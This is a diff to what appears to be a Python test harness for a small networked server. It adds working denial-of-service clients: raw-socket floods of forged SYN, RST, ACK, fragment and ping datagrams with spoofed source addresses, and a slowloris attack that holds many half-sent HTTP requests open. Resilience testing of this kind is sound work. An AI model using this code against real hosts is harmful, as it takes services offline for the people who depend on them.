@@ -5,6 +5,9 @@
 
 import fcntl
 import json
+import random
+import resource
+import selectors
 import socket
 import struct
 import sys
@@ -137,7 +140,119 @@ def protocol(address, number):
     return {"from": source, "type": message[0], "code": message[1], "about": quoted[9], "quoted": len(quoted)}
 
 
-CLIENTS = [trickle, unfinished, idle, stalled, in_two, kept_alive, knock, udp, protocol]
+RATE = 11520  # bytes a second that a line of 115200 bps carries
+FRAMING = 4  # bytes that SLIP adds, or nearly so
+SYN, RST, ACK = 0x02, 0x04, 0x10
+MORE_FRAGMENTS = 0x2000
+
+
+def flood(address, kind, share, seconds):
+    """Forged datagrams, `share` times as many as the line carries. Says when it has begun."""
+    sender = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
+    dice = random.Random(kind)
+    sent, began = 0, time.monotonic()
+    print("begun", flush=True)
+    while (elapsed := time.monotonic() - began) < float(seconds):
+        if sent > elapsed * float(share) * RATE:
+            time.sleep(0.001)
+            continue
+        datagram = FORGERIES[kind](dice, address)
+        sent += len(datagram) + FRAMING
+        try:
+            sender.sendto(datagram, (address, 0))
+        except OSError:
+            time.sleep(0.001)  # the device's queue is full, which is what a flood does
+    return {"bytes": sent}
+
+
+def forged(dice, address, protocol, payload, fragment=0):
+    """A datagram that seems to come from anywhere. The kernel fills in its length and checksum."""
+    source = bytes([10, *dice.randbytes(3)])
+    header = struct.pack("!BBHHHBBH", 0x45, 0, 0, dice.randrange(1, 65536), fragment, 64, protocol, 0)
+    return header + source + socket.inet_aton(address) + payload(source, socket.inet_aton(address))
+
+
+def forged_segment(flags):
+    def forge(dice, address):
+        numbers = dice.randrange(1, 65536), 80, dice.randrange(2**32), dice.randrange(2**32)
+        segment = struct.pack("!HHIIBBHHH", *numbers, 0x50, flags, 65535, 0, 0)
+
+        def with_checksum(source, destination):
+            pseudo = source + destination + struct.pack("!HH", socket.IPPROTO_TCP, len(segment))
+            return segment[:16] + struct.pack("!H", checksum(pseudo + segment)) + segment[18:]
+
+        return forged(dice, address, socket.IPPROTO_TCP, with_checksum)
+
+    return forge
+
+
+def forged_fragment(dice, address):
+    """Of a datagram that never becomes whole."""
+    fragment = MORE_FRAGMENTS | dice.randrange(100)
+    return forged(dice, address, socket.IPPROTO_TCP, lambda *_: dice.randbytes(24), fragment)
+
+
+def forged_ping(dice, address):
+    echo = struct.pack("!BBHHH", 8, 0, 0, 1, 1) + dice.randbytes(56)
+    payload = echo[:2] + struct.pack("!H", checksum(echo)) + echo[4:]
+    return forged(dice, address, socket.IPPROTO_ICMP, lambda *_: payload)
+
+
+def checksum(data):
+    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
+    total = (total & 0xFFFF) + (total >> 16)
+    return ~(total + (total >> 16)) & 0xFFFF
+
+
+FORGERIES = {
+    "SYNs": forged_segment(SYN),
+    "resets": forged_segment(RST),
+    "acknowledgments": forged_segment(ACK),
+    "fragments": forged_fragment,
+    "pings": forged_ping,
+}
+
+
+def lorises(address, count, *sources):
+    """So many connections, whose requests come a byte every two seconds. Says when all are there, and ends
+    when the server has ended all."""
+    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
+    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
+    clients = []
+    while len(clients) < int(count):
+        clients += crowd_of(100, address, sources[len(clients) // 100 % len(sources)])
+    print("there", flush=True)
+    while clients:
+        time.sleep(2)
+        clients = [client for client in clients if goes_on(client)]
+    return {}
+
+
+def goes_on(client):
+    try:
+        return client.send(b"x")
+    except OSError:
+        return False
+
+
+def crowd_of(count, address, source):
+    selector = selectors.DefaultSelector()
+    clients = []
+    for _ in range(count):
+        client = socket.socket()
+        client.setblocking(False)
+        client.bind((source, 0))
+        client.connect_ex((address, 80))
+        selector.register(client, selectors.EVENT_WRITE)
+        clients.append(client)
+    while selector.get_map():
+        for key, _ in selector.select():
+            selector.unregister(key.fileobj)
+            key.fileobj.send(b"GET / HTTP/1.1\r\nX-Slow: ")
+    return clients
+
+
+CLIENTS = [flood, lorises, trickle, unfinished, idle, stalled, in_two, kept_alive, knock, udp, protocol]
 
 if __name__ == "__main__":
     client = {function.__name__: function for function in CLIENTS}[sys.argv[1]]
